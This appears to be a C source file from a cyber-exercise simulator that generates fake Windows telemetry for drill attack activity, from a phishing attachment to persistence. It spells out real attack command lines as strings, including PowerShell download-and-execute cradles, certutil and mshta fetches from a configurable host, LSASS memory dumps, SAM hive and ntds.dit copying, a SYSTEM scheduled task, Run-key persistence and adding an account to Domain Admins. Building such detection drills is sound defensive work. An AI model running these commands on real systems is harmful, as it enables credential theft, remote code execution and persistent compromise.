/* Activities on Windows hosts, from the opened mail to persistence. Each is a few processes and what they leave: command
 * lines that look like the technique, with nothing behind them. What is encoded says that it is a drill. */
#include "exercise/telemetry_impl.h"

#define WORD "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
/* UTF-16LE, Base64: Write-Output 'COLOA DRILL' */
#define ENCODED "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAEMATwBMAE8AQQAgAEQAUgBJAEwATAAnAA=="

static const char *url(struct act *a, const char *path) {
        return tel_say(a->m, "http://%s%s", act_domain(a), path);
}

static void fetch(struct act *a, const struct proc *p, unsigned port) {
        if (act_domain(a) != act_address(a))
                win_dns(a, p, act_domain(a), act_address(a));
        win_connect(a, p, act_address(a), NULL, port);
}

static const struct proc *open_document(struct act *a, const char *file) {
        const struct proc *mail = proc_standing(a->m, a->host, PROC_OUTLOOK, a->who);
        const char *path = tel_say(
                a->m,
                "%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\%06X\\%s",
                win_home(a), (unsigned)prng_below(&a->rng, 0xffffff), file);

        win_file(a, mail, path);
        act_pause(a, 1500);
        const struct proc *w = proc_start(
                a, mail, WORD, tel_say(a->m, "\"%s\" /n \"%s\" /o \"\"", WORD, path), a->who);
        win_file(a, w,
                 tel_say(a->m, "%s\\AppData\\Roaming\\Microsoft\\Office\\Recent\\%s.LNK",
                         win_home(a), file));
        shell_set(a, w);
        return w;
}

static void mail_attachment_open(struct act *a) {
        open_document(a, act_text(a, "file"));
}

static void office_spawns_script(struct act *a) {
        const char *what = act_text(a, "program");
        const struct proc *w = open_document(a, act_text(a, "file"));
        const char *script = tel_say(a->m, "%s\\AppData\\Local\\Temp\\thongbao.vbs", win_home(a));

        act_pause(a, 4000);
        if (strcmp(what, "mshta") == 0) {
                shell_set(a, proc_start(a, w, SYS32("mshta.exe"),
                                        tel_say(a->m, "mshta.exe http://%s/tb.hta", act_domain(a)),
                                        a->who));
        } else if (strcmp(what, "cmd") == 0) {
                shell_set(a, proc_start(a, w, SYS32("cmd.exe"), "cmd.exe /c start /b thongbao.bat",
                                        a->who));
        } else if (strcmp(what, "powershell") == 0) {
                shell_set(a,
                          proc_start(
                                  a, w, POWERSHELL,
                                  "powershell.exe -nop -w hidden -c \"Write-Output 'COLOA DRILL'\"",
                                  a->who));
        } else {
                win_file(a, w, script);
                shell_set(a, proc_start(a, w, SYS32("wscript.exe"),
                                        tel_say(a->m, "wscript.exe //B \"%s\"", script), a->who));
        }
}

static void powershell_encoded(struct act *a) {
        const struct proc *p =
                proc_start(a, shell_of(a), POWERSHELL,
                           "powershell.exe -NoP -NonI -W Hidden -Enc " ENCODED, a->who);

        win_script(a, "Write-Output 'COLOA DRILL'");
        shell_set(a, p);
}

static void download_cradle(struct act *a) {
        const char *script = tel_say(a->m, "IEX (New-Object Net.WebClient).DownloadString('%s')",
                                     url(a, act_text(a, "path")));
        const struct proc *p = proc_start(
                a, shell_of(a), POWERSHELL,
                tel_say(a->m, "powershell.exe -nop -w hidden -c \"%s\"", script), a->who);
        struct eve e = {.kind = EVE_HTTP,
                        .src = a->m->hosts[a->host].address,
                        .dst = act_address(a),
                        .dport = 80,
                        .proto = "TCP",
                        .a = act_domain(a),
                        .b = act_text(a, "path"),
                        .n = 200,
                        .to_client = 18342};

        win_script(a, script);
        fetch(a, p, 80);
        eve_line(a, &e);
        shell_set(a, p);
}

static void certutil_download(struct act *a) {
        const char *to = tel_say(a->m, "C:\\Users\\Public\\%s", act_text(a, "file"));
        const struct proc *p = proc_start(a, shell_ready(a), SYS32("certutil.exe"),
                                          tel_say(a->m, "certutil.exe -urlcache -split -f %s %s",
                                                  url(a, "/tep/capnhat.dat"), to),
                                          a->who);

        fetch(a, p, 80);
        win_file(a, p, to);
        proc_end(a, p, 2 * SEC);
}

static void bitsadmin_download(struct act *a) {
        const char *to = tel_say(a->m, "C:\\Users\\Public\\%s", act_text(a, "file"));

        proc_run(a, shell_ready(a), SYS32("bitsadmin.exe"),
                 tel_say(a->m, "bitsadmin /transfer CapNhat /priority FOREGROUND %s %s",
                         url(a, "/tep/capnhat.dat"), to));
        win_file(a, proc_standing(a->m, a->host, PROC_SVCHOST_NETWORK, -1), to);
}

static void mshta_remote(struct act *a) {
        const struct proc *p =
                proc_start(a, shell_of(a), SYS32("mshta.exe"),
                           tel_say(a->m, "mshta.exe %s", url(a, "/bieu-mau.hta")), a->who);

        fetch(a, p, 80);
}

static void supply_update(struct act *a) {
        const char *product = act_text(a, "product"), *version = act_text(a, "version");
        const char *home = tel_say(a->m, "C:\\Program Files\\%s", product);
        const char *image = tel_say(a->m, "%s\\%sUpdater.exe", home, product);
        struct eve e = {.kind = EVE_TLS,
                        .src = a->m->hosts[a->host].address,
                        .dst = act_address(a),
                        .dport = 443,
                        .proto = "TCP",
                        .a = act_domain(a)};
        const struct proc *p =
                proc_start(a, proc_standing(a->m, a->host, PROC_SERVICES, -1), image,
                           tel_say(a->m, "\"%s\" /silent /version=%s", image, version), WHO_SYSTEM);

        fetch(a, p, 443);
        eve_line(a, &e);
        act_pause(a, 2500);
        const char *dll = tel_say(a->m, "C:\\ProgramData\\%s\\%s\\dongbo.dll", product, version);
        win_file(a, p, dll);
        act_pause(a, 900);
        const struct proc *r =
                proc_start(a, p, SYS32("rundll32.exe"),
                           tel_say(a->m, "rundll32.exe %s,KhoiDong", dll), WHO_SYSTEM);
        act_pause(a, 1500);
        fetch(a, r, 443);
        proc_end(a, p, 20 * SEC);
}

static void dll_user_folder(struct act *a) {
        const char *dll =
                tel_say(a->m, "%s\\AppData\\Local\\Temp\\%s", win_home(a), act_text(a, "file"));

        win_file(a, shell_of(a), dll);
        act_pause(a, 1200);
        shell_set(a, proc_start(a, shell_of(a), SYS32("rundll32.exe"),
                                tel_say(a->m, "rundll32.exe %s,DllRegisterServer", dll), a->who));
}

/* ---- looking around ---- */

static void discovery_commands(struct act *a) {
        static const struct {
                const char *image, *cmd;
        } list[] = {{SYS32("whoami.exe"), "whoami /all"},
                    {SYS32("ipconfig.exe"), "ipconfig /all"},
                    {SYS32("systeminfo.exe"), "systeminfo"},
                    {SYS32("net.exe"), "net group \"Domain Admins\" /domain"},
                    {SYS32("nltest.exe"), "nltest /domain_trusts"},
                    {SYS32("tasklist.exe"), "tasklist /v"},
                    {SYS32("quser.exe"), "quser"},
                    {SYS32("ARP.EXE"), "arp -a"},
                    {SYS32("NETSTAT.EXE"), "netstat -ano"},
                    {SYS32("ROUTE.EXE"), "route print"},
                    {SYS32("HOSTNAME.EXE"), "hostname"},
                    {SYS32("nslookup.exe"), "nslookup -type=any _ldap._tcp"}};
        const struct proc *sh = shell_ready(a);
        unsigned n = (unsigned)act_number(a, "count");
        int64_t begin = a->at;

        for (unsigned i = 0; i < n && i < ARRAY_LEN(list); i++) {
                a->at = act_spread(a, begin, i, n, act_number(a, "over") * MS);
                proc_run(a, sh, list[i].image, list[i].cmd);
        }
}

static void lsass_dump(struct act *a) {
        const char *method = act_text(a, "method");
        const struct proc *lsass = proc_standing(a->m, a->host, PROC_LSASS, -1), *p;
        const char *file = tel_say(a->m, "C:\\Windows\\Temp\\lsass_%02x.dmp",
                                   (unsigned)prng_below(&a->rng, 256));

        if (strcmp(method, "procdump") == 0)
                p = proc_start(a, shell_ready(a), "C:\\Users\\Public\\procdump64.exe",
                               tel_say(a->m, "procdump64.exe -accepteula -ma lsass.exe %s", file),
                               a->who);
        else if (strcmp(method, "taskmgr") == 0)
                p = proc_start(a, shell_of(a), SYS32("Taskmgr.exe"),
                               "\"C:\\Windows\\system32\\taskmgr.exe\" /4", a->who);
        else
                p = proc_start(a, shell_ready(a), SYS32("rundll32.exe"),
                               tel_say(a->m,
                                       "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump "
                                       "%u %s full",
                                       lsass->pid, file),
                               a->who);
        win_access(a, p, lsass, "0x1fffff");
        win_file(a, p, file);
        proc_end(a, p, 2 * SEC);
}

static void sam_hive_save(struct act *a) {
        static const char *const hives[] = {"sam", "system", "security"};
        const struct proc *sh = shell_ready(a);

        for (unsigned i = 0; i < ARRAY_LEN(hives); i++) {
                act_pause(a, 900);
                const struct proc *p =
                        proc_run(a, sh, SYS32("reg.exe"),
                                 tel_say(a->m, "reg save hklm\\%s C:\\Windows\\Temp\\%s.hiv",
                                         hives[i], hives[i]));
                win_file(a, p, tel_say(a->m, "C:\\Windows\\Temp\\%s.hiv", hives[i]));
        }
}

static void ntds_copy(struct act *a) {
        const struct proc *p = proc_run(
                a, shell_ready(a), SYS32("ntdsutil.exe"),
                "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\ad\" q q");

        act_pause(a, 6000);
        win_file(a, p, "C:\\Windows\\Temp\\ad\\Active Directory\\ntds.dit");
}

static void run_command(struct act *a) {
        const char *cmd = act_text(a, "command"), *parent = act_text(a, "parent");
        const struct proc *p = shell_of(a);
        char image[300];
        size_t n;

        if (!cmd)
                return;
        if (a->m->p->hosts[a->host].os == PLAN_LINUX) {
                struct command c = {.line = cmd,
                                    .cwd = "/tmp",
                                    .uid = a->who >= 0 ? 1000u + (unsigned)a->who : 0,
                                    .auid = a->who};
                audit_exec(a, &c);
                return;
        }
        n = cmd[0] == '"' ? strcspn(cmd + 1, "\"") : strcspn(cmd, " ");
        n = MIN(n, sizeof(image) - 1);
        memcpy(image, cmd + (cmd[0] == '"'), n);
        image[n] = 0;
        if (parent && *parent)
                p = proc_start(a, proc_standing(a->m, a->host, PROC_SERVICES, -1), parent,
                               tel_say(a->m, "\"%s\"", parent), a->who);
        bool path = strchr(image, '\\') != NULL, dot = strchr(image, '.') != NULL;
        proc_run(a, p,
                 tel_say(a->m, "%s%s%s",
                         path ? ""
                         : strncmp(image, "powershell", 10) == 0
                                 ? SYS32("WindowsPowerShell\\v1.0\\")
                                 : SYS32(""),
                         image, dot ? "" : ".exe"),
                 cmd);
}

/* ---- staying ---- */

static void scheduled_task(struct act *a) {
        const char *name = act_text(a, "task");
        const char *what = "powershell.exe -w hidden -File C:\\Users\\Public\\capnhat.ps1";
        struct win w;

        proc_run(a, shell_ready(a), SYS32("schtasks.exe"),
                 tel_say(a->m,
                         "schtasks /create /tn \"%s\" /tr \"%s\" /sc minute /mo 30 /ru SYSTEM /f",
                         name, what));
        win_open(&w, a->m, a->host, SEC_TASK, a->at);
        if (w.off)
                return;
        win_subject(&w, a->who);
        win_set(&w, "TaskName", tel_say(a->m, "\\%s", name));
        win_set(&w, "TaskContent",
                "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<Task version=\"1.2\" "
                "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\n  <Triggers>\n  "
                "  <TimeTrigger>\n      "
                "<Repetition>\n        <Interval>PT30M</Interval>\n      </Repetition>\n      "
                "<Enabled>true</Enabled>\n    "
                "</TimeTrigger>\n  </Triggers>\n  <Actions Context=\"Author\">\n    <Exec>\n      "
                "<Command>powershell.exe</Command>\n      <Arguments>-w hidden -File "
                "C:\\Users\\Public\\capnhat.ps1"
                "</Arguments>\n    </Exec>\n  </Actions>\n</Task>");
        win_write(&w);
}

static void run_key(struct act *a) {
        const struct proc *p = proc_start(
                a, shell_ready(a), SYS32("reg.exe"),
                tel_say(a->m,
                        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v "
                        "%s /t REG_SZ /d \"wscript.exe C:\\Users\\Public\\capnhat.vbs\" /f",
                        act_text(a, "value")),
                a->who);

        win_value(a, p,
                  tel_say(a->m, "HKU\\%s\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\%s",
                          who_sid(a->m, a->host, a->who), act_text(a, "value")),
                  "wscript.exe C:\\Users\\Public\\capnhat.vbs");
        proc_end(a, p, 200 * MS);
}

static void user_event(struct act *a, enum win_id id, const char *name) {
        static const char *const unset[] = {"DisplayName",   "HomeDirectory", "HomePath",
                                            "ScriptPath",    "ProfilePath",   "UserWorkstations",
                                            "UserParameters"};
        struct win w;

        win_open(&w, a->m, a->host, id, a->at);
        if (w.off)
                return;
        win_subject(&w, a->who);
        win_set(&w, "TargetUserName", name);
        win_set(&w, "TargetDomainName", tel_upper(a->m, a->m->hosts[a->host].name));
        win_set(&w, "TargetSid",
                tel_say(a->m, "S-1-5-21-%u-%u-%u-1003", a->m->hosts[a->host].machine,
                        (unsigned)a->m->hosts[a->host].key,
                        a->m->hosts[a->host].machine ^ 0x5a5a5a5au));
        for (unsigned i = 0; id == SEC_USER && i < ARRAY_LEN(unset); i++)
                win_set(&w, unset[i], "%%1793");
        if (id == SEC_USER) {
                win_set(&w, "SamAccountName", name);
                win_set(&w, "PasswordLastSet", "%%1794");
                win_set(&w, "AccountExpires", "%%1794");
                win_set(&w, "PrimaryGroupId", "513");
                win_set(&w, "OldUacValue", "0x0");
                win_set(&w, "NewUacValue", "0x15");
                win_set(&w, "UserAccountControl", "\n\t\t%%2080\n\t\t%%2082\n\t\t%%2084");
                win_set(&w, "LogonHours", "%%1797");
        }
        win_write(&w);
}

/* net.exe starts net1.exe, as it does. */
static void net(struct act *a, const char *args) {
        const struct proc *p = proc_start(a, shell_ready(a), SYS32("net.exe"),
                                          tel_say(a->m, "net %s", args), a->who);

        proc_run(a, p, SYS32("net1.exe"), tel_say(a->m, "C:\\Windows\\system32\\net1 %s", args));
        proc_end(a, p, 400 * MS);
}

static void new_account(struct act *a) {
        const char *name = act_text(a, "name");

        net(a, tel_say(a->m, "user %s DienTap-KhongThat1 /add", name));
        user_event(a, SEC_USER, name);
        a->at += 2 * MS;
        user_event(a, SEC_USER_ENABLED, name);
}

static void group_add(struct act *a) {
        const char *name = act_text(a, "name");
        bool dc = a->m->p->hosts[a->host].kind == HOST_DC;
        struct win w;

        net(a, tel_say(a->m,
                       dc ? "group \"Domain Admins\" %s /add /domain"
                          : "localgroup administrators %s /add",
                       name));
        win_open(&w, a->m, a->host, dc ? SEC_GLOBAL_MEMBER : SEC_LOCAL_MEMBER, a->at);
        if (w.off)
                return;
        win_subject(&w, a->who);
        win_set(&w, "MemberSid",
                tel_say(a->m, "S-1-5-21-%u-%u-%u-1003", a->m->hosts[a->host].machine,
                        (unsigned)a->m->hosts[a->host].key,
                        a->m->hosts[a->host].machine ^ 0x5a5a5a5au));
        win_set(&w, "TargetUserName", dc ? "Domain Admins" : "Administrators");
        win_set(&w, "TargetDomainName", dc ? a->m->netbios : "Builtin");
        win_set(&w, "TargetSid",
                dc ? tel_say(a->m, "%.*s512", (int)(strlen(who_sid(a->m, a->host, 0)) - 4),
                             who_sid(a->m, a->host, 0))
                   : "S-1-5-32-544");
        win_write(&w);
}

const struct activity_fn activities_windows[] = {
        {"mail_attachment_open", mail_attachment_open},
        {"office_spawns_script", office_spawns_script},
        {"powershell_encoded", powershell_encoded},
        {"download_cradle", download_cradle},
        {"certutil_download", certutil_download},
        {"bitsadmin_download", bitsadmin_download},
        {"mshta_remote", mshta_remote},
        {"supply_update", supply_update},
        {"dll_user_folder", dll_user_folder},
        {"run_command", run_command},
        {"discovery_commands", discovery_commands},
        {"lsass_dump", lsass_dump},
        {"sam_hive_save", sam_hive_save},
        {"ntds_copy", ntds_copy},
        {"scheduled_task", scheduled_task},
        {"run_key", run_key},
        {"new_account", new_account},
        {"group_add", group_add},
        {NULL, NULL},
};
